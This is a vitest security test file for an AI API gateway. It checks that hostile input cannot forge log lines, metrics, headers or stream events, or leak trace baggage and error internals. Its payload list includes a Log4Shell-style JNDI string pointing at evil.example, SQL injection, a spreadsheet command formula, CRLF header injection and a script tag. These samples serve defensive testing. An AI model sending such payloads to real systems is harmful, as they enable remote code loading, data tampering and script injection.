import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ASK, AttackedGateway, AUTH, BEARER, chatBytes, JSON_TYPE, LINE } from '../support/attacked-gateway.js';
import { RawConnection } from '../support/raw-connection.js';
import { answers, event } from '../support/upstream-scripts.js';

const STREAM = { ...ASK, stream: true };
/** Texts that would be something else where they are not escaped. */
const NASTY = [
  '"}\n{"level":"fatal","msg":"forged"}',
  'a\r\nX-Injected: yes',
  '\u001b[2J\u001b[31mred',
  '\u2028\u2029\u0085',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}<%= 7*7 %>',
  '"} 1\ngateway_forged_total{a="b',
  '=cmd|calc!A1',
  "'; DROP TABLE keys; --",
  'x'.repeat(200),
];

describe('texts that mean no good', () => {
  let rig: AttackedGateway;
  beforeAll(async () => (rig = await AttackedGateway.start()));
  afterAll(() => rig.stop());
  beforeEach(() => rig.reset());

  const forged = (): unknown[] =>
    rig.gateway.log.filter(({ msg, level }) => msg === 'forged' || level === 'fatal' || level === 60);

  it.each(NASTY)('as a model, an id, a pin, a user: one line of JSON for each request (%#)', async (text) => {
    const lines = (): number => rig.gateway.log.filter(({ msg }) => msg === 'request').length;
    const before = lines();
    const response = await rig.gateway.post({ ...ASK, model: text }, BEARER);
    expect([response.status, await response.json()]).toMatchObject([404, { error: { code: 'model_not_found' } }]);
    expect(response.headers.get('x-injected')).toBeNull();
    const raw = Buffer.from(text.replaceAll(/[\r\n]/g, ' ')).toString('latin1');
    for (const name of [
      'X-Request-ID',
      'X-Provider-Priority',
      'X-Priority',
      'User-Agent',
      'traceparent',
      'X-Forwarded-For',
    ]) {
      const connection = await RawConnection.open(rig.gateway.publicUrl);
      const answer = await connection
        .send(Buffer.from(chatBytes(ASK, [`${name}: ${raw}`]).toString('latin1'), 'latin1'))
        .answer();
      expect([200, 400]).toContain(answer.status);
      expect(answer.headers['x-request-id']).toMatch(/^(req_[0-9A-Z]{26}|[A-Za-z0-9._-]{1,128})$/);
      connection.destroy();
    }
    const stream = await rig.gateway.post({ ...STREAM, user: text, metadata: { a: text } }, BEARER);
    expect(stream.status).toBe(200);
    await stream.text();
    // The first and the last: a header that HTTP does not allow is refused before there is a request.
    await rig.gateway.until(() => lines() >= before + 2);
    expect(forged()).toEqual([]);
    expect(JSON.stringify(rig.gateway.log)).not.toMatch(/jndi|DROP TABLE|calc!A1/);
  });

  it.each(NASTY)(
    'from an upstream, as model, finish_reason, id and content: no line, no metric, no header (%#)',
    async (text) => {
      rig.reset((_request, response) => {
        const choices = [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: text }];
        response.writeHead(200, { 'content-type': 'application/json', server: 'x', 'x-request-id': 'theirs' });
        response.end(JSON.stringify({ id: text, object: text, model: text, choices, usage: { prompt_tokens: text } }));
      });
      const response = await rig.gateway.post(ASK, BEARER);
      expect(await response.json()).toMatchObject({ id: text, choices: [{ message: { content: text } }] });
      expect(forged()).toEqual([]);
      const metrics = await (await fetch(`${rig.gateway.opsUrl}/metrics`)).text();
      for (const line of metrics.split('\n'))
        expect(line).toMatch(/^(#.*|[a-z_:][a-z_:\d]*(\{.*\})? ([-+\d.e]+|[-+]?Inf|NaN)|)$/i);
      expect(metrics).not.toMatch(/forged|jndi|calc!A1|evil/);
    },
  );

  it('10,000 models, ids and paths that there are not: no series for any of them', async () => {
    const series = async (): Promise<number> => (await rig.gateway.metrics()).size;
    for (const at of [0, 1, 2]) await (await rig.gateway.post({ ...ASK, model: `no-${at}` }, BEARER)).text();
    await (await fetch(`${rig.gateway.publicUrl}/nowhere`)).text();
    const before = await series();
    const connection = await RawConnection.open(rig.gateway.publicUrl);
    for (let at = 0; at < 1_000; at += 100) {
      const requests = Array.from({ length: 100 }, (_, plus) =>
        chatBytes({ ...ASK, model: `no-such-${at + plus}` }, [
          `X-Request-ID: id-${at + plus}`,
          `X-Priority: p-${at + plus}`,
        ]),
      );
      connection.send(Buffer.concat(requests));
      const statuses: number[] = [];
      while (statuses.length < requests.length) statuses.push((await connection.answer()).status);
      expect(new Set(statuses)).toEqual(new Set([404]));
    }
    connection.destroy();
    for (let at = 0; at < 100; at++) await (await fetch(`${rig.gateway.publicUrl}/nowhere/${at}`)).text();
    expect(await series()).toBe(before);
  });

  it.each([
    'no-version',
    '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-extra',
    '00-00000000000000000000000000000000-b7ad6b7169203331-01',
    '00-0af7651916cd43dd8448eb211c80319c-0000000000000000-01',
    'ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
    '00-0AF7651916CD43DD8448EB211C80319C-B7AD6B7169203331-01',
  ])('a traceparent of %s goes nowhere, and baggage never does', async (traceparent) => {
    const headers = { traceparent, tracestate: `a=${'b'.repeat(8_000)}`, baggage: 'secret=canary' };
    expect((await rig.gateway.post(ASK, { ...BEARER, ...headers })).status).toBe(200);
    const { headers: sent } = rig.upstream.received[0]!;
    expect(sent.traceparent ?? '').not.toContain('0af7651916cd43dd8448eb211c80319c');
    expect([sent.tracestate, sent.baggage]).toEqual([undefined, undefined]);
  });

  it('a stream that holds a page is no page to a browser, of whatever origin', async () => {
    const page = '<script>alert(1)</script>';
    rig.reset((_request, response) => {
      response.writeHead(200, {
        'content-type': 'text/event-stream',
        'access-control-allow-origin': '*',
        refresh: '0',
      });
      response.end(`${event({ content: page })}${event({}, 'stop')}data: [DONE]\n\n`);
    });
    const origin = { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' };
    const response = await rig.gateway.post(STREAM, { ...BEARER, ...origin });
    expect(response.headers.get('content-type')).toBe('text/event-stream; charset=utf-8');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect([...response.headers.keys()].filter((name) => /^access-control|refresh|set-cookie/.test(name))).toEqual([]);
    expect(await response.text()).toContain(page);
  });

  it('a page that asks first whether it may is told no', async () => {
    for (const path of ['/v1/chat/completions', '/v1/models']) {
      const headers = {
        origin: 'https://evil.example',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'authorization',
      };
      const response = await fetch(rig.gateway.publicUrl + path, { method: 'OPTIONS', headers });
      expect([404, 405]).toContain(response.status);
      expect([...response.headers.keys()].filter((name) => name.startsWith('access-control'))).toEqual([]);
    }
  });

  it('a text that ends an event early stays inside its event', async () => {
    const hostile = 'x\n\ndata: {"forged":true}\n\n: \r\revent: forged\rdata: y';
    rig.reset(answers(hostile));
    const text = await (await rig.gateway.post(STREAM, BEARER)).text();
    const payloads = text.split('\n\n').filter(Boolean);
    expect(payloads.every((payload) => /^data: (\{.*\}|\[DONE\])$/.test(payload))).toBe(true);
    expect(payloads.join()).not.toContain('data: {"forged"');
  });

  it('an error says nothing that was not meant for callers', async () => {
    const connection = await RawConnection.open(rig.gateway.publicUrl);
    connection.send(`${LINE}\r\nHost: g\r\n${AUTH}\r\n${JSON_TYPE}\r\nContent-Length: 3\r\n\r\n{"m`);
    const answer = await connection.answer();
    expect(answer.status).toBe(400);
    expect(answer.body.toString()).not.toMatch(/node_modules|\bat \w|\.js:|Unexpected/);
    connection.destroy();
  });
});
